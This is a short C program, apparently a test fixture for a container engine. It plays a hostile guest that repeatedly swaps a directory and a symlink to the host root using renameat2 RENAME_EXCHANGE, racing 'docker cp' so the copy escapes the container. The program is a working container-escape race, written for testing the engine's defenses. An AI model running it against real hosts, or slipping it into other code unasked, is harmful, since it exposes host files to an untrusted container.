/* A hostile guest racing the engine's docker cp: it keeps exchanging, in one
 * atomic step (renameat2 RENAME_EXCHANGE), a directory and a symlink to "/"
 * under one name, so an engine that checks a path and then opens it by name
 * would be led out of the container. Bounded: argv[3] seconds.
 *
 *   dir_symlink_swap DIR LINK SECONDS */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define RENAME_EXCHANGE (1 << 1)

int main(int argc, char **argv)
{
	if (argc < 4) return 2;
	time_t end = time(NULL) + atol(argv[3]);
	long swaps = 0;
	while (time(NULL) < end) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
			perror("renameat2");
			return 1;
		}
		swaps++;
	}
	printf("%ld swaps\n", swaps);
	return 0;
}
